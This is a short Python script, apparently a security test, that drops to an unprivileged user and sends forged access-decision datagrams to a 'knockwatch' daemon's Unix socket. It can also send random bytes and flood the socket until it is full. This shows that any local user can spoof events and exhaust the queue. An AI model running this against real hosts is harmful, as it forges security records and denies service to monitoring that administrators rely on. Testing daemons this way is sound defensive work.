#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""Tells the daemon of decisions that nobody made, as any user of a host can.

usage: forge_access.py USER COUNT SERVICE CLIENT [ODD]

USER is a number; COUNT 0 sends until there is no room any more. With ODD the datagrams are none. Prints how many found room.
"""
import os
import socket
import struct
import sys

user, count, service, client = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4]
address = bytes(10) + b"\xff\xff" + socket.inet_aton(client)
texts = [service, b"", b"", b"/etc/hosts.deny", b"ALL: ALL", b""]
bytes_ = b"KWA1" + bytes([0, 0, 6, 0]) + struct.pack(">IIHH", 1, 1000000, 40000, 22) + address + bytes(16)
bytes_ += b"".join(struct.pack(">H", len(t)) + t for t in texts)
if len(sys.argv) > 5:
    bytes_ = os.urandom(300)
os.setgroups([])
os.setgid(user)
os.setuid(user)
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
sent = 0
try:
    while count == 0 or sent < count:
        s.sendto(bytes_, 0 if count else socket.MSG_DONTWAIT, "/run/knockwatch/sensor/access.sock")
        sent += 1
except BlockingIOError:
    pass
print(sent)
